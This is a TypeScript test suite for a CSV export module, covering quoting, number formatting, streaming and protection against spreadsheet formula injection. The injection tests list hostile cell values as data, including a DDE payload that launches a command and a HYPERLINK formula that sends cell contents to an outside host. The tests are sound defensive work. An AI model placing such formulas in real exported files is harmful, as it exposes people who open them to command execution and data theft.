import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type CsvColumn, type CsvValue, csvDollars, csvStream } from "./csv";

const COLUMNS: readonly CsvColumn<{ name: string; cost: CsvValue }>[] = [
  { name: "name", value: ({ name }) => name },
  { name: "cost_usd", value: ({ cost }) => cost },
];

const textOf = (rows: readonly { name: string; cost: CsvValue }[]) =>
  new Response(csvStream(COLUMNS, rows)).text();
const fieldsOf = async (name: string, cost: CsvValue = 1) =>
  (await textOf([{ name, cost }])).split("\r\n")[1];

test("a file has a line of names and a line for each row, which end with CR and LF", async () => {
  expect(
    await textOf([
      { name: "research", cost: 1n },
      { name: "testing", cost: null },
    ]),
  ).toBe("name,cost_usd\r\nresearch,1\r\ntesting,\r\n");
  expect(await textOf([])).toBe("name,cost_usd\r\n");
});

describe("a text", () => {
  test.each([
    ["plain text, with a comma", '"plain text, with a comma"'],
    ['a "quoted" word', '"a ""quoted"" word"'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["a;b", '"a;b"'],
    ["Prüfung 測試", "Prüfung 測試"],
  ])("%j is the field %j", async (text, field) => {
    expect(await textOf([{ name: text, cost: 1 }])).toBe(`name,cost_usd\r\n${field},1\r\n`);
  });

  test.each([
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://example.com?"&A1,"open")',
    "=cmd|' /C calc'!A0",
  ])("%j is no formula", async (text) => {
    const [, [name] = []]: string[][] = parse(await textOf([{ name: text, cost: 1 }]));
    expect(name).toBe(`'${text}`);
  });

  test("without the beginning of a formula is read back unchanged by another program", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc
            .string({ unit: "binary", minLength: 1 })
            .filter((text) => !/^\s*[=+\-@\t\r\n＝＋－＠]/u.test(text)),
        ),
        async (names) => {
          const text = await textOf(names.map((name) => ({ name, cost: 1 })));
          const records: string[][] = parse(text, { record_delimiter: "\r\n" });
          expect(records.slice(1).map(([name]) => name)).toEqual(names);
        },
      ),
    );
  });
});

describe("a number", () => {
  test.each<[CsvValue, string]>([
    [0, "0"],
    [1204, "1204"],
    [1e-7, "0.0000001"],
    [48.06, "48.06"],
    [-12.5, "-12.5"],
    [9_007_199_254_740_991n, "9007199254740991"],
    [csvDollars(412.384213), "412.384213"],
    [csvDollars(0.000004), "0.000004"],
    [csvDollars(-5.38), "-5.38"],
    [csvDollars(4467281307.889499), "4467281307.889499"],
    [csvDollars(null), ""],
  ])("%s is written %s, and is never guarded as a formula", async (value, text) => {
    expect(await fieldsOf("a", value)).toBe(`a,${text}`);
  });

  test("every amount has all its micro-dollars", async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: 8e15 }), async (microUsd) => {
        const text = (await fieldsOf("a", csvDollars(microUsd / 1e6)))?.slice(2) ?? "";
        const [whole = "", fraction = ""] = text.split(".");
        expect(BigInt(whole + fraction.padEnd(6, "0"))).toBe(BigInt(microUsd));
      }),
    );
  });
});

describe("the stream", () => {
  /** Rows of about 100 characters, which count how many were asked for. */
  function endlessRows() {
    const asked = { rows: 0, isEnded: false };
    async function* rows() {
      try {
        for (;;) {
          asked.rows += 1;
          yield { name: "x".repeat(100), cost: 1 };
        }
      } finally {
        asked.isEnded = true;
      }
    }
    return { asked, rows: rows() };
  }

  test("asks for no more rows than its reader takes, and ends them when the reader leaves", async () => {
    const { asked, rows } = endlessRows();
    const reader = csvStream(COLUMNS, rows).getReader();
    await reader.read();
    expect(asked.rows).toBeLessThan(200);
    await reader.cancel();
    expect(asked.isEnded).toBe(true);
  });

  test("fails when its rows fail, so that nobody takes a part for the whole", async () => {
    async function* rows() {
      yield { name: "research", cost: 1 };
      throw new Error("the database is unavailable");
    }
    await expect(new Response(csvStream(COLUMNS, rows())).text()).rejects.toThrow();
  });
});
